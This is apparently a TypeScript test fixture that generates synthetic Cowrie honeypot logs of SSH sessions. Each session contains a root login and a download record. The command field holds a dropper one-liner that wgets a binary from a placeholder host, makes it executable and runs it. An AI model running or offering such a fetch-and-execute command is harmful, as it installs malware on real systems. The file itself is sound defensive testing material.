/**
 * Small Cowrie logs written by the tests themselves, so the suite stands alone without the real
 * corpus in ../shared. Each session connects, logs in, runs a dropper command (wget of a URL),
 * downloads a file with its shasum, and closes; one line per event, timestamps one second apart.
 */
import { createHash } from 'node:crypto';

export interface SyntheticOptions {
  sessions?: number;
  /** first timestamp, epoch ms (default 2026-03-24T00:00:00Z) */
  start?: number;
  /** distinct attacker addresses cycled through (public documentation-free ranges) */
  attackers?: string[];
}

export const SYNTHETIC_ATTACKERS = ['45.148.10.95', '185.224.128.17', '103.145.13.220'];
export const SYNTHETIC_URL = 'http://198.51.100.23/bins/x86';

/** The shasum of the one payload every synthetic session downloads. */
export const SYNTHETIC_SHA256 = createHash('sha256').update('synthetic cowrie payload').digest('hex');

/** JSON lines of a synthetic Cowrie log (no trailing newline). */
export function syntheticCowrieLines(options: SyntheticOptions = {}): string[] {
  const sessions = options.sessions ?? 3;
  const attackers = options.attackers ?? SYNTHETIC_ATTACKERS;
  let t = options.start ?? Date.UTC(2026, 2, 24, 0, 0, 0);
  const lines: string[] = [];
  for (let i = 0; i < sessions; i++) {
    const session = createHash('md5').update(`session-${i}`).digest('hex').slice(0, 12);
    const src_ip = attackers[i % attackers.length] as string;
    const base = { session, src_ip, sensor: 'synthetic', protocol: 'ssh' };
    const at = () => {
      t += 1000;
      return new Date(t).toISOString().replace('Z', '000Z');
    };
    const event = (eventid: string, extra: Record<string, unknown>) => lines.push(JSON.stringify({ eventid, ...base, ...extra, timestamp: at() }));
    event('cowrie.session.connect', { src_port: 40000 + i, dst_ip: '192.0.2.10', dst_port: 22, message: `New connection: ${src_ip}` });
    event('cowrie.login.success', { username: 'root', password: `pw${i}`, message: 'login attempt succeeded' });
    event('cowrie.command.input', { input: `cd /tmp; wget ${SYNTHETIC_URL}; chmod +x x86; ./x86`, message: 'CMD' });
    event('cowrie.session.file_download', { url: SYNTHETIC_URL, outfile: `var/lib/cowrie/downloads/${SYNTHETIC_SHA256}`, shasum: SYNTHETIC_SHA256, message: 'Downloaded URL' });
    event('cowrie.session.closed', { duration: 3.2, message: 'Connection lost after 3 seconds' });
  }
  return lines;
}

/** A synthetic log as file text, newline-terminated. */
export function syntheticCowrieLog(options: SyntheticOptions = {}): string {
  return `${syntheticCowrieLines(options).join('\n')}\n`;
}
